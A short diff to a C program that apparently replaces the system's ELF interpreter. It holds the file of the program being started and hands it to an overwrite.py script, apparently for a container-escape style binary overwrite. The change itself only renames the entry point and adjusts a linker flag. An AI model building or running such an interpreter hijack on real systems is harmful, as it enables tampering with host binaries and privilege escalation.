@@ -1,6 +1,6 @@
 /* What a client puts in the place of INTERPRETER, by which the kernel starts whatever is linked
  * with libraries: keeps the program that it was to start open, puts the right one back and hands
- * the file to overwrite.py. It stands alone (-nostdlib -static-pie), for it is run without
+ * the file to overwrite.py. It stands alone (-nostdlib -static-pie -Wl,-e,begin), for it is run without
  * libraries. */
 #include <fcntl.h>
 #include <stddef.h>
@@ -10,7 +10,7 @@
 #define INTERPRETER "/lib64/ld-linux-x86-64.so.2"
 #endif
 
-void _start(void);
+void begin(void);
 
 static long call(long number, long a, long b, long c, long d)
 {
@@ -41,7 +41,7 @@ static long call(long number, long a, long b, long c, long d)
 #ifdef __x86_64__
 __attribute__((force_align_arg_pointer)) /* the kernel calls nobody */
 #endif
-void _start(void)
+void begin(void)
 {
 	char digit[2] = {0};
 	const char *arguments[] = {"python3", "/~/src/overwrite.py", digit, NULL};
